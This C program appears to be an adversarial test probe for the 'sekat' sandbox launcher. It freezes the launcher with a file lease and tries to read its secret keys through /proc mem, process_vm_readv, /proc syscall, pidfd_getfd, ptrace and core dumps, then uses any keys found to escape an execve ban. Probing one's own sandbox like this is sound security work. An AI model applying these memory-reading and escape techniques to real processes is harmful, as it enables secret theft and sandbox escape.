// A neighbour of a launch, of the same user, that tries to steal the launcher's keys.
//
// It launches a program of its own under sekat, with a policy that forbids to execute anything, and
// holds the launcher in its last call, execve, with the keys in its registers. Then it looks for
// the keys in every way that an ordinary user has, and hands all that it finds to the program. That
// one tries them: with the right ones it may execute what it likes.
//
//   neighbour-probe FILE SEKAT WORD...   FILE is a copy of this program, to be launched.
//
// With the variable LATE it makes no use of what it opened early, with QUIT it ends the launcher
// with SIGQUIT and looks for a core.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

enum { MAX_FOUND = 4096, PIPE = 9 };

struct keys {
  uint64_t words[3];
};

static struct keys found[MAX_FOUND];
static size_t found_count;

static void add(const uint64_t *words) {
  struct keys keys = {{words[0], words[1], words[2]}};
  for (size_t i = 0; i < found_count; i++)
    if (memcmp(&found[i], &keys, sizeof keys) == 0) return;
  if (found_count < MAX_FOUND) found[found_count++] = keys;
}

// MARK: - The launched program

static int64_t raw_call(int64_t number, uint64_t a0, uint64_t a1, uint64_t a2,
                        const struct keys *keys) {
#if defined(__x86_64__)
  register uint64_t r10 __asm__("r10") = keys->words[0];
  register uint64_t r8 __asm__("r8") = keys->words[1];
  register uint64_t r9 __asm__("r9") = keys->words[2];
  int64_t result;
  __asm__ volatile("syscall"
                   : "=a"(result)
                   : "0"(number), "D"(a0), "S"(a1), "d"(a2), "r"(r10), "r"(r8), "r"(r9)
                   : "rcx", "r11", "memory");
  return result;
#else
  long result = syscall(number, a0, a1, a2, keys->words[0], keys->words[1], keys->words[2]);
  return result == -1 ? -errno : result;
#endif
}

static int use_keys(void) {
  char *arguments[] = {"echo", "ESCAPED", 0};
  char *environment[] = {0};
  struct keys keys;
  size_t tried = 0;
  while (read(PIPE, &keys, sizeof keys) == (ssize_t)sizeof keys) {
    raw_call(SYS_execve, (uintptr_t) "/bin/echo", (uintptr_t)arguments, (uintptr_t)environment,
             &keys);
    tried++;
  }
  execve("/bin/echo", arguments, environment);
  printf("kept: %zu tried, %s\n", tried, errno == EPERM ? "EPERM" : "?");
  return 0;
}

// MARK: - Looking for keys in memory

/// Looks for comparisons with keys in a program, and for the registers of the last call.
static void search(const uint64_t *memory, size_t count) {
  struct instruction {
    uint16_t code;
    uint8_t jump_true, jump_false;
    uint32_t k;
  };
  const struct instruction *code = (const void *)memory;
  for (size_t i = 0; i + 48 < count; i++) {
    if (memory[i] == SYS_execve && memory[i + 1] > 4096 && memory[i + 2] > 4096)
      add(memory + i + 4);
    if (code[i].code != 0x20 || code[i].k != 40) continue;
    uint32_t halves[6];
    unsigned seen = 0;
    for (size_t j = i; j < i + 40; j++) {
      if (code[j].code != 0x20 || code[j].k < 40 || code[j].k >= 64 || code[j + 1].code != 0xa4)
        continue;
      halves[(code[j].k - 40) / 4] = code[j + 1].k;
      seen |= 1u << (code[j].k - 40) / 4;
    }
    if (seen != 63) continue;
    uint64_t words[3];
    memcpy(words, halves, sizeof words);
    add(words);
  }
}

/// Reads all memory that there is, with one function or the other.
static const char *read_memory(FILE *maps, int memory, pid_t process) {
  static char line[4096];
  static uint64_t buffer[1 << 17];
  size_t bytes = 0;
  int number = 0;
  rewind(maps);
  while (fgets(line, sizeof line, maps)) {
    unsigned long start, end;
    char rights[5];
    if (sscanf(line, "%lx-%lx %4s", &start, &end, rights) != 3 || rights[1] != 'w') continue;
    for (unsigned long at = start; at < end; at += sizeof buffer) {
      size_t size = end - at < sizeof buffer ? end - at : sizeof buffer;
      struct iovec here = {buffer, size}, there = {(void *)at, size};
      ssize_t count = memory >= 0 ? pread(memory, buffer, size, (off_t)at)
                                  : process_vm_readv(process, &here, 1, &there, 1, 0);
      if (count <= 0) {
        number = errno;
        continue;
      }
      bytes += (size_t)count;
      search(buffer, (size_t)count / sizeof *buffer);
    }
  }
  static char text[64];
  snprintf(text, sizeof text, bytes > 0 ? "read" : "%s", strerrorname_np(number));
  return text;
}

// MARK: - The ways

static char path_buffer[64];

static const char *path(pid_t process, const char *name) {
  snprintf(path_buffer, sizeof path_buffer, "/proc/%d/%s", process, name);
  return path_buffer;
}

static void report(const char *way, const char *result) { printf("%s: %s\n", way, result); }

static const char *outcome(long result) {
  return result < 0 ? strerrorname_np(errno) : "allowed";
}

static void try_all(pid_t launcher, FILE *maps, int early) {
  if (maps && early >= 0) report("mem that was opened early", read_memory(maps, early, launcher));

  int late = open(path(launcher, "mem"), O_RDONLY);
  report("mem", late < 0 ? strerrorname_np(errno) : maps ? read_memory(maps, late, launcher) : "?");
  if (maps) report("process_vm_readv", read_memory(maps, -1, launcher));

  char text[512] = "";
  int call = open(path(launcher, "syscall"), O_RDONLY);
  ssize_t count = call < 0 ? -1 : read(call, text, sizeof text - 1);
  report("syscall", outcome(count));
  unsigned long long word[6];
  long number;
  if (sscanf(text, "%ld %llx %llx %llx %llx %llx %llx", &number, &word[0], &word[1], &word[2],
             &word[3], &word[4], &word[5]) == 7)
    add((uint64_t[]){word[3], word[4], word[5]});

  report("map_files", outcome(open(path(launcher, "map_files"), O_RDONLY)));
  int handle = (int)syscall(SYS_pidfd_open, launcher, 0);
  report("pidfd_getfd", outcome(syscall(SYS_pidfd_getfd, handle, 0, 0)));
  report("ptrace", outcome(ptrace(PTRACE_SEIZE, launcher, 0, 0)));
}

// MARK: - Holding the launcher

static int is_launcher(pid_t process) {
  char name[32] = "";
  int file = open(path(process, "comm"), O_RDONLY);
  ssize_t count = file < 0 ? -1 : read(file, name, sizeof name - 1);
  if (file >= 0) close(file);
  return count > 0 && strncmp(name, "sekat", 5) == 0;
}

/// Whether a process sleeps, as it does while its call waits for the lease.
static int sleeps(pid_t process) {
  char text[256] = "";
  int file = open(path(process, "stat"), O_RDONLY);
  ssize_t count = file < 0 ? -1 : read(file, text, sizeof text - 1);
  if (file >= 0) close(file);
  const char *name_end = count > 0 ? strrchr(text, ')') : 0;
  return name_end && (name_end[2] == 'S' || name_end[2] == 'D');
}

int main(int count, char **words) {
  if (count == 2 && strcmp(words[1], "use-keys") == 0) return use_keys();
  if (count < 4) return 2;
  setvbuf(stdout, 0, _IOLBF, 0);

  // Who opens the file waits until the one who has the lease gives it back.
  signal(SIGIO, SIG_IGN);
  int file = open(words[1], O_RDONLY | O_CLOEXEC);
  if (file < 0 || fcntl(file, F_SETLEASE, F_WRLCK) != 0) {
    printf("no lease: %s\n", strerrorname_np(errno));
    return 3;
  }
  int ends[2];
  if (pipe(ends) != 0) return 2;
  struct rlimit unlimited = {RLIM_INFINITY, RLIM_INFINITY};
  setrlimit(RLIMIT_CORE, &unlimited);

  pid_t launcher = fork();
  if (launcher == 0) {
    signal(SIGIO, SIG_DFL);
    dup2(ends[0], PIPE);
    close(ends[1]);
    execv(words[2], words + 2);
    _exit(2);
  }
  close(ends[0]);

  // At the first moment: an open descriptor outlives the right to open it.
  while (!is_launcher(launcher) && kill(launcher, 0) == 0) {}
  FILE *maps = fopen(path(launcher, "maps"), "r");
  int early = open(path(launcher, "mem"), O_RDONLY);
  report("early", maps && early >= 0 ? "opened" : "too late");
  if (getenv("LATE")) early = -1;

  for (int quiet = 0, tries = 0; quiet < 20 && tries < 10000; tries++) {
    quiet = sleeps(launcher) ? quiet + 1 : 0;
    usleep(2000);
  }
  if (!is_launcher(launcher)) {
    printf("the launcher was not held\n");
    kill(launcher, SIGKILL);
    return 3;
  }
  try_all(launcher, maps, early);
  if (getenv("QUIT")) {
    int status = 0;
    kill(launcher, SIGQUIT);
    waitpid(launcher, &status, 0);
    printf("SIGQUIT: signal %d, %s\n", WTERMSIG(status), WCOREDUMP(status) ? "core" : "no core");
    return 0;
  }
  printf("found: %zu\n", found_count);
  fflush(stdout);
  signal(SIGPIPE, SIG_IGN);
  fcntl(ends[1], F_SETPIPE_SZ, 1 << 18);
  if (write(ends[1], found, found_count * sizeof *found) < 0) return 2;
  close(ends[1]);
  fcntl(file, F_SETLEASE, F_UNLCK);
  close(file);
  int status = 0;
  waitpid(launcher, &status, 0);
  return 0;
}
